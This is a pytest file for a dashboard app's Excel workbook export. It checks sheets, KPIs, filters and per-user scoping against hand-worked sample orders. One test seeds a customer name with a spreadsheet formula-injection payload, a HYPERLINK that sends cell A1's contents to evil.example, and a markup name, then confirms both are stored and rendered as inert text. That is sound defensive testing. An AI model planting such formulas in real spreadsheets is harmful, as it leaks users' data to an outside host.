"""The view's workbook (SPEC §4.9): one sheet per Overview figure after a "Report" sheet with the
section, filters, user, time and KPIs, on tests/tiny.py, both backends.

Hand-worked, January 2024 (1-31 Jan): O1 Acme France 10 Jan, CAR 2 x 100.00 + BIKE 1 x 50.00
= 250.00; O2 Bolt USA 15 Jan, BIKE 3 x 50.00 - 10 % = 135.00; O3 Cogs USA 20 Jan cancelled
(100.00, left out of revenue). Revenue 250.00 + 135.00 = 385.00, 2 orders, AOV 385.00 / 2 =
192.50, customers Acme and Bolt = 2, units 2 + 1 + 3 = 6, cancellation rate 1 of 3.
Previous period (1-31 Dec 2023): O5 Bolt 100.00, so revenue change (385 - 100) / 100 = +285 %.
Last year (1-31 Jan 2023): O6 Acme 100.00.
By category: Classic Cars = O1's CAR line 200.00 (O3 is cancelled), share 200 / 385 = 51.9 %;
Motorcycles = 50.00 + 135.00 = 185.00.
"""

from __future__ import annotations

import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from sqlalchemy import update

from dashapp.auth import Account
from dashapp.filters import Filters
from dashapp.orders import LineDraft, OrderDraft, create_order
from dashapp.reports.page import page_html
from dashapp.reports.view import view_report
from dashapp.reports.workbook import write_view_workbook
from dashapp.store.models import Customer, Product
from tests.accounts import staff
from tests.reports.workbooks import cents, labelled, open_book, table
from tests.tiny import seed_tiny

JANUARY = Filters(start=date(2024, 1, 1), end=date(2024, 1, 31))
NOON = datetime(2026, 12, 6, 12, 0, tzinfo=UTC)
SHEETS = [
    "Report",
    "Revenue trend",
    "By category",
    "Category trend",
    "Top products",
    "Top customers",
    "By country",
    "By day",
]


def workbook_of(engine, f: Filters, **options):
    with engine.connect() as conn:
        report = view_report(conn, f, user="ann", now=NOON, **options)
    out = io.BytesIO()
    write_view_workbook(report, out)
    return report, open_book(out.getvalue())


@pytest.fixture(scope="module")
def january(tiny_engine):
    return workbook_of(tiny_engine, JANUARY)[1]


def test_one_sheet_per_figure_after_the_report_sheet(january):
    assert january.sheetnames == SHEETS


def test_the_first_sheet_says_what_whose_when_and_the_filters(january):
    cover = labelled(january["Report"])
    assert cover["Section"] == "Overview"
    assert cover["Prepared for"] == "ann"
    assert cover["Generated"] == "2026-12-06 12:00 UTC"
    assert cover["Filters"] == "Dates: 1 Jan 2024 – 31 Jan 2024"


def test_kpis_against_the_previous_period_and_last_year(january):
    kpis = {r["KPI"]: r for r in table(january["Report"], "KPI")}
    assert cents(kpis["Revenue"]["Value"]) == Decimal("385.00")
    assert cents(kpis["Revenue"]["Previous period"]) == Decimal("100.00")
    assert kpis["Revenue"]["Change"] == pytest.approx(2.85)  # (385 - 100) / 100
    assert cents(kpis["Revenue"]["Same period last year"]) == Decimal("100.00")
    assert kpis["Orders"]["Value"] == 2
    assert cents(kpis["Avg order value"]["Value"]) == Decimal("192.50")
    assert kpis["Customers"]["Value"] == 2
    assert kpis["Units"]["Value"] == 6
    assert kpis["Cancellation rate"]["Value"] == pytest.approx(1 / 3)
    # Previous period: O5 is Shipped, 0 of 1 cancelled, so the rate rose 33.3 points.
    assert kpis["Cancellation rate"]["Change"] == pytest.approx(1 / 3)
    assert kpis["Revenue"]["Change vs last year"] == pytest.approx(2.85)  # O6 100.00 in Jan 2023
    # No tiny line has a cost: profit and margin are left empty, saying why.
    assert kpis["Gross profit"]["Value"] is None
    assert kpis["Gross profit"]["Note"] == "n/a: no cost is known for these orders"
    revenue = next(row for row in january["Report"].iter_rows() if row[0].value == "Revenue")
    assert revenue[1].data_type == "n" and revenue[1].number_format.startswith('"$"#,##0.00')


def test_figure_sheets_hold_the_figures_data(january):
    categories = table(january["By category"], "Category")
    assert [(r["Category"], cents(r["Revenue"]), r["Units"]) for r in categories] == [
        ("Classic Cars", Decimal("200.00"), 2),
        ("Motorcycles", Decimal("185.00"), 4),
    ]
    assert categories[0]["Share"] == pytest.approx(200 / 385)
    products = table(january["Top products"], "SKU")
    assert [(r["SKU"], cents(r["Revenue"]), r["Units"]) for r in products] == [
        ("CAR", Decimal("200.00"), 2),
        ("BIKE", Decimal("185.00"), 4),  # 1 + 3
    ]
    customers = table(january["Top customers"], "Customer")
    assert [(r["Customer"], cents(r["Revenue"])) for r in customers] == [
        ("Acme", Decimal("250.00")),
        ("Bolt", Decimal("135.00")),
    ]
    countries = table(january["By country"], "Country")
    assert [(r["Country"], cents(r["Revenue"]), r["Orders"]) for r in countries] == [
        ("France", Decimal("250.00"), 1),
        ("USA", Decimal("135.00"), 1),
    ]
    days = table(january["By day"], "Day")
    assert [(r["Day"].date(), cents(r["Revenue"])) for r in days] == [
        (date(2024, 1, 10), Decimal("250.00")),
        (date(2024, 1, 15), Decimal("135.00")),
        (date(2024, 1, 20), Decimal("0.00")),  # O3, cancelled
    ]
    trend = table(january["Revenue trend"], "Period starting")
    # A month gives one point, so weeks (Mondays): 8 Jan holds O1, 15 Jan holds O2.
    assert sum(cents(r["Revenue"]) for r in trend) == Decimal("385.00")
    assert cents(next(r for r in trend if r["Period starting"].day == 8)["Revenue"]) == Decimal(
        "250.00"
    )
    money = january["By category"]["B5"]
    assert money.data_type == "n" and "$" in money.number_format and "0.00" in money.number_format


def test_filters_apply_to_every_sheet_and_are_written_first(tiny_engine):
    f = Filters(categories=("Motorcycles",), countries=("USA",))
    report, book = workbook_of(tiny_engine, f)
    cover = labelled(book["Report"])
    # All time: BIKE lines shipped to the USA are O2 135.00 and O5 100.00 = 235.00.
    assert cover["Filters"] == (
        "Dates: 12 Jan 2023 – 5 Feb 2024 · Category: Motorcycles · Country: USA"
    )
    kpis = {r["KPI"]: r for r in table(book["Report"], "KPI")}
    assert cents(kpis["Revenue"]["Value"]) == Decimal("235.00")
    assert [r["Country"] for r in table(book["By country"], "Country")] == ["USA"]
    assert [r["SKU"] for r in table(book["Top products"], "SKU")] == ["BIKE"]
    assert all("Category: Motorcycles" in book[s]["A2"].value for s in SHEETS[1:])


def test_cents_are_exact_over_all_time(tiny_engine):
    # All orders not cancelled: 250.00 + 135.00 + 99.99 + 100.00 + 100.00 = 684.99 over
    # 5 orders; AOV 684.99 / 5 = 136.998, half up to 137.00.
    _, book = workbook_of(tiny_engine, Filters())
    kpis = {r["KPI"]: r for r in table(book["Report"], "KPI")}
    assert cents(kpis["Revenue"]["Value"]) == Decimal("684.99")
    assert cents(kpis["Avg order value"]["Value"]) == Decimal("137.00")
    days = {r["Day"].date(): cents(r["Revenue"]) for r in table(book["By day"], "Day")}
    assert days[date(2024, 2, 5)] == Decimal("99.99")


def test_a_formula_or_markup_name_stays_text(engine):
    seed_tiny(engine)
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    with engine.begin() as conn:
        conn.execute(update(Customer).where(Customer.id == 1).values(name=formula))
        conn.execute(update(Product).where(Product.id == 2).values(name="<b>Bike</b> @SUM(1)"))
    report, book = workbook_of(engine, JANUARY)
    sheet = book["Top customers"]
    cell = next(c for row in sheet.iter_rows() for c in row if c.value == formula)
    assert cell.data_type == "s"  # a string cell, not a formula
    marked = "<b>Bike</b> @SUM(1)"
    product = next(c for row in book["Top products"].iter_rows() for c in row if c.value == marked)
    assert product.data_type == "s"
    document = page_html(report, 1000)
    assert marked not in document
    assert "&lt;b&gt;Bike&lt;/b&gt; @SUM(1)" in document  # the PDF's table cell
    assert "\\u0026lt;b\\u0026gt;Bike" in document  # the chart's label, literal for Plotly


def test_a_sales_users_workbook_holds_only_their_orders(engine):
    # The sales user enters one order, 2 x CAR at the catalog price 100.00 = 200.00 for Acme;
    # the six tiny orders were entered by nobody, so the report holds that order only.
    seed_tiny(engine)
    draft = OrderDraft(customer_id=1, lines=(LineDraft(product="CAR", quantity=2),))
    saved = create_order(engine, draft, staff("sam", "sales"))
    sam = Account(0, "sam", "sales")
    _, book = workbook_of(engine, Filters().for_account(sam))
    kpis = {r["KPI"]: r for r in table(book["Report"], "KPI")}
    assert cents(kpis["Revenue"]["Value"]) == Decimal("200.00")
    assert kpis["Orders"]["Value"] == 1
    assert [r["Customer"] for r in table(book["Top customers"], "Customer")] == ["Acme"]
    assert labelled(book["Report"])["Filters"].endswith("Orders entered by: sam")
    assert saved.id


def test_the_insight_sections_report_has_its_own_figures(tiny_engine):
    # Scored customers, all time: Acme 449.99 (O1 250.00 + O4 99.99 + O6 100.00, 3 orders)
    # and Bolt 235.00 (O2 135.00 + O5 100.00, 2 orders): 684.99 over 5 orders in all.
    _, book = workbook_of(tiny_engine, Filters(), section="insight")
    assert book.sheetnames == ["Report", "Segments", "Recency x frequency"]
    assert labelled(book["Report"])["Section"] == "Customer insight"
    segments = table(book["Segments"], "Segment")
    assert sum(r["Customers"] for r in segments) == 2
    assert sum(cents(r["Revenue"]) for r in segments if r["Revenue"]) == Decimal("684.99")
    assert sum(r["Orders"] for r in segments) == 5
    assert len(table(book["Recency x frequency"], "Recency score")) == 25  # every R x F cell


def test_a_section_without_figures_of_its_own_says_so(tiny_engine):
    _, book = workbook_of(tiny_engine, JANUARY, section="geography")
    assert book.sheetnames == SHEETS
    assert labelled(book["Report"])["Note"].startswith("The geography page has no figure sheets")
